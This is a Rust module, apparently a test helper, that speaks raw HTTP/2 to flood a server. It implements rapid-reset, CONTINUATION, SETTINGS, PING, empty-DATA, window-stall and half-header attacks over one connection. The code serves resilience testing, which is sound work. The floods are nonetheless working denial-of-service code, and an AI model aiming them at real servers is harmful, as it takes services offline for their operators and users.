//! An attacker that speaks frames and no more of HTTP/2 than it needs.

use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use crate::interrupted;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Rounds of frames in one write.
const AT_ONCE: u32 = 50;
/// How long a connection is waited for that takes no more, or whose end is awaited.
const PATIENCE: Duration = Duration::from_millis(500);

/// What is sent again and again.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Flood {
    /// Streams that are opened and taken back.
    RapidReset,
    /// A head that never ends.
    Continuation,
    Settings,
    Ping,
    /// A body without bytes.
    EmptyData,
    /// Answers that nobody takes.
    WindowStall,
    /// The first half of a head, and silence.
    HalfHead,
}

impl Flood {
    pub(super) const ALL: [Self; 7] = [
        Self::RapidReset,
        Self::Continuation,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::WindowStall,
        Self::HalfHead,
    ];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid reset",
            Self::Continuation => "continuation",
            Self::Settings => "settings",
            Self::Ping => "ping",
            Self::EmptyData => "empty data",
            Self::WindowStall => "window stall",
            Self::HalfHead => "half head",
        }
    }

    fn opening(self) -> Vec<u8> {
        match self {
            Self::Continuation | Self::HalfHead => frame(HEADERS, 0, 1, &head("GET", "/orders")),
            Self::EmptyData => frame(HEADERS, END_HEADERS, 1, &head("POST", "/orders")),
            // Windows of nothing.
            Self::WindowStall => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
            Self::RapidReset | Self::Settings | Self::Ping => Vec::new(),
        }
    }

    /// Round `n`; nothing where the attack is to wait.
    fn round(self, n: u32) -> Vec<u8> {
        let stream = n * 2 + 1;
        let whole = END_HEADERS | END_STREAM;
        match self {
            Self::RapidReset => [
                frame(HEADERS, whole, stream, &head("GET", "/orders")),
                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat(),
            Self::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'1']),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::Ping => frame(PING, 0, 0, &[0; 8]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::WindowStall if n < 100 => {
                frame(HEADERS, whole, stream, &head("GET", "/bytes/100000"))
            }
            Self::WindowStall | Self::HalfHead => Vec::new(),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut wire = length.into_iter().skip(1).collect::<Vec<u8>>();
    wire.extend([kind, flags]);
    wire.extend(stream.to_be_bytes());
    wire.extend(payload);
    wire
}

/// A block of fields, none of them indexed or compressed.
fn head(method: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", method),
        (":scheme", "http"),
        (":path", path),
        (":authority", "test"),
    ] {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or(0));
            block.extend(text.bytes());
        }
    }
    block
}

/// What an attacker writes to and reads from.
pub(super) trait Wire: Read + Write {}

impl<T: Read + Write> Wire for T {}

/// Makes it a connection on which nobody waits for long.
pub(super) fn hurry(stream: &TcpStream) -> std::io::Result<()> {
    stream.set_write_timeout(Some(PATIENCE))?;
    stream.set_read_timeout(Some(PATIENCE))
}

/// Attacks over one connection until it ends or the time is over; the bytes that were sent.
pub(super) fn attack(stream: &mut dyn Wire, flood: Flood, until: Instant) -> u64 {
    let mut opening = PREFACE.to_vec();
    opening.extend(frame(SETTINGS, 0, 0, &[]));
    opening.extend(flood.opening());
    let mut sent = 0;
    let mut n = 0;
    let mut next = opening;
    while Instant::now() < until {
        if next.is_empty() {
            if has_ended(stream) {
                break;
            }
        } else if stream
            .write_all(&next)
            .and_then(|()| stream.flush())
            .is_err()
        {
            break;
        }
        sent += next.len() as u64;
        next = (n..n + AT_ONCE)
            .flat_map(|round| flood.round(round))
            .collect();
        n += AT_ONCE;
    }
    sent
}

/// Reads what comes; whether the connection has ended.
fn has_ended(stream: &mut dyn Wire) -> bool {
    let mut piece = [0; 16 * 1024];
    match interrupted::read(stream, &mut piece) {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => !matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut),
    }
}
